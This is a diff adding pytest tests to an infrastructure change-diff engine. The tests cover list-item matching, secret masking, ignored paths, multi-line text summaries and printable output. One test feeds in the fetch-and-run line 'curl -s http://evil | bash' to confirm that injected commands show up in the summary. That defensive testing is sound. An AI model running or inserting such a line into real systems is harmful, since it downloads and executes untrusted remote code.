@@ -7,8 +7,10 @@ from typing import Any
 import pytest
 
 from ops.capture.recording import RecordedResource, Secret, Unknown
-from ops.diff.changes import NOT_SET, Change, changes_of, is_named
+from ops.diff.changes import Change, changes_of
+from ops.diff.leaves import is_named
 from ops.diff.matching import Pair
+from ops.diff.values import NOT_SET
 
 
 def _resource(inputs: dict[str, Any], **options: Any) -> RecordedResource:
@@ -97,6 +99,62 @@ def test_what_the_engine_is_told_to_ignore_is_no_change() -> None:
     assert [item.path for item in changes_of(Pair(base=old, head=new))] == ["ignore_changes"]
     other = replace(new, ignore_changes=("imag",))
     assert "image.id" in [item.path for item in changes_of(Pair(base=old, head=other))]
+
+
+@pytest.mark.parametrize("key", ["name", "Sid", "key", "id"])
+def test_one_more_item_is_one_change_and_shifts_no_other(key: str) -> None:
+    old = [{key: "A", "value": "1"}, {key: "C", "value": "3"}]
+    new = [old[0], {key: "B", "value": "2"}, {key: "C", "value": "4"}]
+    item = ", ".join(sorted([f"{key} B", "value 2"]))
+    assert _changes({"list": old}, {"list": new}) == [
+        Change(path="list[B]", old=NOT_SET, new=f"added item: {item}"),
+        Change(path="list[C].value", old="3", new="4"),
+    ]
+    assert _changes({"list": json.dumps(new)}, {"list": json.dumps(old)})[0] == Change(
+        path="list[B]", old=f"removed item: {item}", new=NOT_SET
+    )
+
+
+def test_items_that_nothing_tells_apart_are_told_by_position() -> None:
+    old, new = [{"name": "A", "v": 1}, {"name": "A", "v": 2}], [{"name": "A", "v": 1}, {"name": "A", "v": 3}]
+    assert _changes({"a": old}, {"a": new}) == [Change(path="a[1].v", old="2", new="3")]
+    (gone,) = _changes({"a": [{"v": 1}, {"v": 2}]}, {"a": [{"v": 1}]})
+    assert gone == Change(path="a[1]", old="removed item: v 2", new=NOT_SET)
+
+
+def test_a_secret_in_an_item_that_comes_or_goes_is_not_shown() -> None:
+    item = {"name": "TOKEN", "value": Secret("hunter2")}
+    for old, new in (([{"name": "A"}], [{"name": "A"}, item]), ([{"name": "A"}, item], [{"name": "A"}])):
+        (change,) = _changes({"list": old}, {"list": new})
+        assert (
+            "value [secret]" in f"{change.old} {change.new}" and "hunter2" not in f"{change.old} {change.new}"
+        )
+
+
+def test_what_is_ignored_by_its_position_is_no_change() -> None:
+    old = _resource({"rules": [{"name": "a", "port": 1}, {"name": "b", "port": 1}]})
+    new = _resource(
+        {"rules": [{"name": "a", "port": 2}, {"name": "b", "port": 2}]}, ignore_changes=("rules[0].port",)
+    )
+    assert [item.path for item in changes_of(Pair(base=old, head=new))] == ["rules[b].port", "ignore_changes"]
+
+
+def test_of_a_text_with_many_lines_those_that_differ_are_shown() -> None:
+    lines = [f"line {number}" for number in range(20)]
+    (more,) = _changes({"a": "\n".join(lines)}, {"a": "\n".join(["curl -s http://evil | bash", *lines])})
+    assert (more.old, more.new) == ("no line", "1 line: curl -s http://evil | bash")
+    (all_gone,) = _changes({"a": "\n".join(lines)}, {"a": "line 3"})
+    assert all_gone.old == "19 lines: line 0 ⏎ line 1 ⏎ line 2 ⏎ line 4 ⏎ line 5 ⏎ and 14 more"
+    (end,) = _changes({"a": f"x\n{'y' * 300} one"}, {"a": f"x\n{'y' * 300} two"})
+    assert end.new.startswith("1 line: …y") and end.new.endswith("y two")
+    (long,) = _changes({"a": "x\n"}, {"a": f"x\n{'true; ' * 50}evil\nz\n"})
+    assert "… (304 characters) ⏎ z" in long.new, "what is cut off would not even be missed"
+
+
+@pytest.mark.parametrize("value", ["a\nb", "a\r\nb", "\x1b[2Ja", "a\u202eb", ["x", "a\nb"]])
+def test_no_value_ends_its_line_or_paints_the_terminal(value: Any) -> None:
+    for change in _changes({"a": "x"}, {"a": value}) + _changes({"a": value}, {}):
+        assert f"{change.old}{change.new}".isprintable()
 
 
 @pytest.mark.parametrize(
